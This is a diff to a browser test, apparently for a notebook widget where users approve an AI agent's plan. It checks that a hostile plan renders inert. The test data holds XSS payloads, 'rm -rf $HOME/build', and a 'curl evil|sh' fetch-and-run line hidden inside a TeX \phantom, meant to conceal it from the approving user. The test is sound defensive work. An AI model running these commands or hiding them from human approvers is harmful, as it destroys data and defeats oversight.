@@ -48,6 +48,12 @@ CHROMIUM_ARGS = [
     "--disable-background-networking", "--disable-component-update", "--disable-sync",
 ]
 PLAN_HEADING = "Plan: add a greeting"  # the heading of the hostile script's plan
+# TeX the hostile plan carries, which must show as written (never typeset: \phantom would hide
+# the "curl evil|sh" on the card the user approves).
+PLAN_TEX = ("rm -rf $HOME/build", "it costs $5", r"$$\phantom{;curl evil|sh;}$$")
+PLAN_TEX_CODE = "cp $SRC/x /tmp"  # inside inline code
+# What MathJax leaves in the page when it typesets something (v2, v3/v4).
+MATHJAX = "mjx-container, mjx-math, .MathJax, .MathJax_Display, .MathJax_Preview"
 WRITTEN = "hello.py"  # the file the approved plan writes (relative to the notebook)
 # Elements and attributes that must never appear in an output: each would be a live payload.
 EXECUTABLE = (
@@ -293,6 +299,12 @@ def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path) -> None:
             # ... and the hostile HTML in it shows as text, inert.
             expect(md).to_contain_text('<script>window.__pwned = 1; alert("pwned: plan script")')
             expect(md).to_contain_text("<img src=x onerror=")
+            # ... and its TeX delimiters show as written, not as math.
+            for tex in PLAN_TEX:
+                expect(md).to_contain_text(tex)
+            expect(md.locator("code", has_text=re.compile(rf"^{re.escape(PLAN_TEX_CODE)}$"))
+                   ).to_have_count(1)
+            _assert_no_math(card)
             # The streamed reply (HTML split across deltas) shows as text too.
             expect(page.locator(".pw-turn").first).to_contain_text(
                 "<svg onload=\"window.__pwned = 13")
@@ -324,6 +336,14 @@ def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path) -> None:
             written = [p for d in (root, Path(env["TMPDIR"])) for p in d.rglob(WRITTEN)]
             assert written, "the approved plan's file was not written"
             card.screenshot(path=str(ARTIFACTS / "plan-card-approved.png"))
+            # Seconds later (math is typeset after the Markdown is rendered): still no math, in
+            # the card or in the turn (its Write tool view holds the plan's text as JSON).
+            _assert_no_math(turn)
+            for tex in PLAN_TEX:
+                expect(md).to_contain_text(tex)
+            tool_pre = turn.locator("details.pw-tool pre", has_text="curl evil").first
+            assert "rm -rf $HOME/build" in (tool_pre.text_content() or "")
+            assert r"\\phantom{;curl evil|sh;}" in (tool_pre.text_content() or "")  # JSON
             turn.screenshot(path=str(ARTIFACTS / "plan-turn.png"))
 
             # 5. The rest of the notebook runs (its own checks of mode, file and events).
@@ -350,6 +370,13 @@ def test_plan_mode_notebook_in_a_real_browser(tmp_path: Path) -> None:
     if os.environ.get("PLAN_WIDGETS_DOCS_IMG") == "1":
         DOCS_IMG.parent.mkdir(parents=True, exist_ok=True)
         shutil.copy(ARTIFACTS / "plan-card.png", DOCS_IMG)
+
+
+def _assert_no_math(where: Any) -> None:
+    typeset = where.locator(MATHJAX)
+    found = [typeset.nth(k).evaluate("e => e.outerHTML.slice(0, 200)")
+             for k in range(typeset.count())]
+    assert found == [], f"model text was typeset as math: {found}"
 
 
 def _assert_nothing_ran(page: Any, dialogs: list[str]) -> None:
